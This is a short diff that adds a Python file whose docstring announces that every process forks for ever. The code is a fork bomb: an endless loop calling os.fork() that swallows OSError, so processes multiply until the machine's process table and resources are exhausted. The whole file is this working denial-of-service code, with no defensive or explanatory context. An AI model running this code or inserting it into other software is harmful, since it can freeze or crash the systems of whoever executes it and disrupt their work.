@@ -1,0 +1,9 @@
+"""Every process forks for ever and shrugs off failures to fork."""
+
+import os
+
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
